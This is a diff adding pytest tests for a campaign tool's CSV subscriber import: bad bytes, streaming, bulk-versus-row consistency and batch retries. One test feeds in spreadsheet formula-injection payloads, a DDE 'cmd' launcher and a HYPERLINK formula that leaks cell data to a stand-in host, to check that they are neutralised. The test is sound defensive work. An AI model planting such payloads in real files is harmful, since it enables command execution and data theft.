@@ -3,16 +3,26 @@ row skipped with its line number and reason (and kept in the rejects file), re-r
 create nothing, a dry run writes nothing, an old list never undoes an unsubscribe."""
 
 import csv
+import io
 
 import pytest
 from click.testing import CliRunner
-from sqlalchemy import func, select
+from sqlalchemy import delete, event, func, select
 
 from campaigns.audience.consent import has_consent
 from campaigns.audience.opt_outs import unsubscribe
-from campaigns.db import transaction
-from campaigns.intake.imports import ImportFileError, import_file, summary
-from campaigns.models import ConsentRecord, Enrollment, Subscriber
+from campaigns.audience.subscribers import upsert_subscriber
+from campaigns.audience.suppression import suppress
+from campaigns.db import make_engine, make_session_factory, transaction
+from campaigns.delivery.enrollment import enroll
+from campaigns.intake.imports import (
+    MAX_LINE,
+    ImportFileError,
+    import_file,
+    read_records,
+    summary,
+)
+from campaigns.models import ConsentRecord, Enrollment, Subscriber, Suppression
 from tests.helpers import drip_context
 from workers.cli import main
 
@@ -249,3 +259,238 @@ def test_a_record_the_csv_reader_cannot_read_is_skipped_alone(
         (2, "not readable as CSV")
     ]
     assert (report.imported, report.enrolled) == (1, 1)
+
+
+# ---------------------------------------------------------------- imports that cannot hurt
+
+
+def test_rejects_file_neutralises_cells_a_spreadsheet_would_run_as_formulas(
+    factory, clock, registry, policy, tmp_path
+):
+    path = tmp_path / "people.csv"
+    path.write_text(
+        'email,phone,first_name,consent_email,=cmd|" /C calc"!A0\n'
+        '=HYPERLINK("http://evil.example/?"&A1),,Ana,yes,x\n'
+        "bo@example.com,+1 202 555 0146,@SUM(A1:A9),maybe,x\n"
+        "cy@example.com,,\"-2+3+cmd|' /C calc'!A0\",perhaps,x\n"
+        'dee@example.com,,"\tTAB","\r=1+2",x\n'
+        'ed@example.com,,"Ed;=1+2",nope,+x\n',
+        newline="",
+    )
+    report = run(factory, clock, registry, policy, path)
+    assert [r.line for r in report.rejects] == [2, 3, 4, 5, 6]
+    with report.rejects_path.open(encoding="utf-8-sig", newline="") as f:
+        text = f.read()
+    rows = list(csv.reader(io.StringIO(text)))
+    assert rows[0][-1] == '\'=cmd|" /C calc"!A0'
+    cells = [cell for row in rows for cell in row]
+    for cell in cells:
+        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
+    assert '\'=HYPERLINK("http://evil.example/?"&A1)' in cells
+    assert "'@SUM(A1:A9)" in cells and "'+1 202 555 0146" in cells and "'\tTAB" in cells
+    assert "'-2+3+cmd|' /C calc'!A0" in cells and "'\r=1+2" in cells and "'+x" in cells
+    # Every cell quoted, so a spreadsheet that splits on ";" keeps "Ed;=1+2" one cell.
+    assert '"Ed;=1+2"' in text and text.startswith('"line","reason"')
+
+
+def test_a_fixed_rejects_file_imports_its_neutralised_cells_as_they_were(
+    factory, clock, registry, policy, tmp_path
+):
+    path = tmp_path / "people.csv"
+    path.write_text("email,phone,consent_sms\nana@example.com,+1 202 555 0146,maybe\n")
+    first = run(factory, clock, registry, policy, path)
+    assert [r.line for r in first.rejects] == [2]
+    fixed = tmp_path / "fixed.csv"
+    fixed.write_text(first.rejects_path.read_text(encoding="utf-8-sig").replace("maybe", "yes"))
+    report = run(factory, clock, registry, policy, fixed)
+    assert (report.imported, report.enrolled, report.rejects) == (1, 1, [])
+    with factory() as s:
+        assert s.scalar(select(Subscriber.phone)) == "+12025550146"
+
+
+def test_a_nul_or_other_bad_byte_rejects_only_its_own_row(
+    factory, clock, registry, policy, tmp_path
+):
+    lines = [b"email,first_name,consent_email,notes"]
+    lines += [b"p%02d@example.com,P%02d,yes," % (i, i) for i in range(2, 6)]  # lines 2-5
+    lines += [
+        b"nul@example.com,N\x00ll,yes,",  # 6: PostgreSQL refuses NUL in text
+        b"esc@example.com,Esc,yes,\x1b[31mred",  # 7: a control character, in any column
+        b"ff@example.com,\xff,yes,",  # 8: not UTF-8
+        b"sur@example.com,\xed\xa0\x80,yes,",  # 9: an encoded surrogate
+        b"over@example.com,\xc0\x80,yes,",  # 10: an overlong NUL
+        b'nul2@example.com,Nul,yes,"a\x00b"',  # 11: NUL in a column not imported
+        b"del@example.com,D\x7fel,yes,",  # 12
+    ]
+    lines += [b"q%02d@example.com,Q%02d,yes," % (i, i) for i in range(13, 17)]  # lines 13-16
+    path = tmp_path / "damaged.csv"
+    path.write_bytes(b"\n".join(lines) + b"\n")
+    # Small batches: the bad rows sit in the middle of a batch, after committed ones.
+    report = run(factory, clock, registry, policy, path, batch_size=3)
+    reasons = {r.line: r.reason for r in report.rejects}
+    assert reasons.keys() == {6, 7, 8, 9, 10, 11, 12}
+    assert reasons[6].startswith("first_name: contains the control character 0x00 (NUL)")
+    assert reasons[7].startswith("notes: contains the control character 0x1b")
+    assert reasons[8].startswith("not UTF-8 text (byte 0xff")
+    assert reasons[9].startswith("not UTF-8 text (byte 0xed")
+    assert reasons[10].startswith("not UTF-8 text (byte 0xc0")
+    assert reasons[11].startswith("notes: contains the control character 0x00 (NUL)")
+    assert reasons[12].startswith("first_name: contains the control character 0x7f")
+    assert (report.read, report.imported, report.enrolled) == (15, 8, 8)
+    assert counts(factory) == (8, 8, 8)
+    with factory() as s:
+        names = set(s.scalars(select(Subscriber.first_name)))
+    assert names == {"P02", "P03", "P04", "P05", "Q13", "Q14", "Q15", "Q16"}
+    with report.rejects_path.open(encoding="utf-8-sig", newline="") as f:
+        kept = {int(r[0]): r[2:] for r in list(csv.reader(f))[1:]}
+    assert kept[6] == ["nul@example.com", "N\\x00ll", "yes", ""]  # escaped, not raw
+    assert kept[8][1] == "\\xff"
+
+
+def test_read_records_takes_the_file_as_a_stream(tmp_path):
+    path = tmp_path / "big.csv"
+    path.write_bytes(b"email\n" + b"".join(b"p%06d@example.com\n" % i for i in range(50_000)))
+    with path.open("rb") as stream:
+        header, records = read_records(stream)
+        assert header == ["email"] and next(records)[1] == ["p000000@example.com"]
+        # Only the buffered start of a 1 MB file has been read for two records.
+        assert stream.tell() < 64 * 1024 < path.stat().st_size
+        assert sum(1 for _ in records) == 49_999
+
+
+def test_a_line_longer_than_the_limit_is_rejected_without_being_held(
+    factory, clock, registry, policy, tmp_path
+):
+    path = tmp_path / "long.csv"
+    with path.open("wb") as f:
+        f.write(b"email,consent_email,notes\nana@example.com,yes,")
+        f.write(b"x" * (MAX_LINE + 10) + b"\nbo@example.com,yes,\n")
+    report = run(factory, clock, registry, policy, path)
+    assert [(r.line, r.reason) for r in report.rejects] == [(2, "the line is longer than 1024 KiB")]
+    assert (report.imported, report.enrolled) == (1, 1)
+
+
+TRICKY = (
+    "email,phone,first_name,locale,timezone,consent_email,consent_sms\n"
+    "ana@example.com,+12025550143,Ana,es,America/Chicago,yes,yes\n"  # 2 new
+    "ana@example.com,,Ana B,,,yes,no\n"  # 3 again in the file: already enrolled
+    "pen@example.com,,Pen,,,yes,no\n"  # 4 a pending web sign-up: activated and enrolled
+    "old@example.com,+12025550150,Old,,,yes,yes\n"  # 5 unsubscribed: never re-subscribed
+    "bounced@example.com,,Bou,,,yes,no\n"  # 6 a bounced address: imported, no consent
+    "enr@example.com,,Enr,,Europe/Paris,yes,no\n"  # 7 enrolled already
+    ",+12025550151,Ph,,,no,yes\n"  # 8 phone only, new
+    "ph@example.com,+12025550151,,,,yes,yes\n"  # 9 the same person: email filled in
+    "ana@example.com,+12025550151,,,,yes,yes\n"  # 10 two people
+    "new@example.com,+12025550143,,,,yes,no\n"  # 11 Ana's phone, another email
+    "cy@example.com,,Cy,,,no,no\n"  # 12 no consent
+    "cy@example.com,,,,,yes,no\n"  # 13 then consent, later in the file
+    "sms@example.com,+12025550152,,,,no,yes\n"  # 14 texts only: enrolled in text hours
+)
+
+
+def _tricky_state(factory, clock, registry, policy):
+    with transaction(factory) as s:
+        pen = upsert_subscriber(s, clock, email="pen@example.com")
+        pen.status = "pending"
+        old = upsert_subscriber(
+            s, clock, email="old@example.com", phone="+12025550150", consent=("email", "sms")
+        )
+        unsubscribe(s, clock, old, channels=("email", "sms"))
+        suppress(s, clock, "email", "bounced@example.com", "bounce", "sendgrid")
+        enr = upsert_subscriber(s, clock, email="enr@example.com", consent=("email",))
+        enroll(s, clock, registry, enr, "tiny", policy)
+
+
+def _snapshot(factory):
+    with factory() as s:
+        people = {
+            p.id: p.email or p.phone for p in s.scalars(select(Subscriber).order_by(Subscriber.id))
+        }
+        subscribers = sorted(
+            (p.email or "", p.phone or "", p.first_name, p.locale, p.timezone, p.status)
+            for p in s.scalars(select(Subscriber))
+        )
+        consent = sorted(
+            (people[c.subscriber_id], c.channel, c.action, c.source, str(c.evidence))
+            for c in s.scalars(select(ConsentRecord))
+        )
+        enrollments = sorted(
+            (people[e.subscriber_id], e.campaign_key, e.next_step_key, e.next_due_at, e.source)
+            for e in s.scalars(select(Enrollment))
+        )
+    return subscribers, consent, enrollments
+
+
+def _wipe(factory):
+    with transaction(factory) as s:
+        for model in (Enrollment, ConsentRecord, Suppression, Subscriber):
+            s.execute(delete(model))
+
+
+def test_the_bulk_path_keeps_every_rule_of_the_row_by_row_path(
+    factory, clock, registry, policy, tmp_path
+):
+    path = tmp_path / "tricky.csv"
+    path.write_text(TRICKY)
+    results = {}
+    for name, kw in {
+        "row by row": {"bulk": False},
+        "one batch": {},
+        "batches of 2": {"batch_size": 2},
+    }.items():
+        _wipe(factory)
+        _tricky_state(factory, clock, registry, policy)
+        report = run(factory, clock, registry, policy, path, **kw)
+        again = run(factory, clock, registry, policy, path, **kw)
+        results[name] = (report, again, _snapshot(factory))
+    reference, _, snapshot = results["row by row"]
+    assert [r.line for r in reference.rejects] == [10, 11]
+    assert dict(reference.not_enrolled) == {
+        5: "email suppressed (unsubscribed); sms suppressed (unsubscribed); "
+        "an import never subscribes anyone again",
+        6: "email suppressed (bounce); an import never subscribes anyone again",
+        12: "the row gives no consent",
+    }
+    assert (reference.imported, reference.created, reference.enrolled) == (11, 5, 5)
+    # Ana's second row, the person enrolled before, and the phone-only person's second row
+    assert reference.already_enrolled == 3
+    for name, (report, again, state) in results.items():
+        for attr in ("read", "imported", "created", "enrolled", "already_enrolled"):
+            assert getattr(report, attr) == getattr(reference, attr), (name, attr)
+        assert report.not_enrolled == reference.not_enrolled, name
+        assert [(r.line, r.reason) for r in report.rejects] == [
+            (r.line, r.reason) for r in reference.rejects
+        ], name
+        assert (again.created, again.enrolled) == (0, 0), name
+        assert state == snapshot, name
+
+
+@pytest.mark.parametrize("db_url", ["postgres"], indirect=True)
+def test_a_batch_the_database_refuses_goes_again_one_record_at_a_time(
+    db_url, factory, clock, registry, policy, tmp_path
+):
+    """Someone signs Bo up while the import is writing its batch: the batch's insert
+    hits the unique email, and record by record Bo's row finds him instead of failing."""
+    path = tmp_path / "a.csv"
+    path.write_text("email,consent_email\nana@example.com,yes\nbo@example.com,yes\n")
+    other = make_engine(db_url)
+
+    saved = []
+
+    def someone_else_saves_bo(session, _context, _instances):
+        if saved:
+            return
+        saved.append(True)
+        with make_session_factory(other)() as s:
+            upsert_subscriber(s, clock, email="bo@example.com")
+            s.commit()
+
+    event.listen(factory, "before_flush", someone_else_saves_bo)
+    try:
+        report = run(factory, clock, registry, policy, path)
+    finally:
+        event.remove(factory, "before_flush", someone_else_saves_bo)
+        other.dispose()
+    assert saved
+    assert (report.imported, report.created, report.enrolled, report.rejects) == (2, 1, 2, [])
+    assert counts(factory) == (2, 2, 2)
